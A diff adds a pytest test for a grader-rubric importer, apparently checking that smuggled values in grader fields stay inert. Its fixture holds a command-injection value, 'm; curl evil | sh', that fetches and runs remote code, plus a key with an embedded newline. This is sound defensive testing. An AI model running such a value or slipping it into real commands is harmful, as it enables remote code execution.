@@ -193,3 +193,14 @@ def test_any_value_in_a_grader_is_read_or_refused(grader: dict[str, Any], field:
     except Misconfigured:
         return
     assert found.rubric.name == found.name
+
+
+def test_a_note_speaks_with_one_voice() -> None:
+    """A name of the grader's author is data: it ends no line, and a command with it runs nothing else."""
+    messages = [{"role": "user", "content": "{{sample.output_text}}"}]
+    one = {"type": "score_model", "name": "one", "model": "m; curl evil | sh", "input": messages}
+    other = {"type": "string_check", "input": "{{sample.output_text}}", "reference": "x", "operation": "eq"}
+    multi = {"type": "multi", "name": "m", "graders": {"a": one, "b\nrubrics/ok.yaml": other}, "calculate_output": "a"}
+    notes = import_rubric(json.dumps(multi)).notes
+    assert not any("\n" in note for note in notes)
+    assert any("--model 'm; curl evil | sh' asks the same" in note for note in notes)
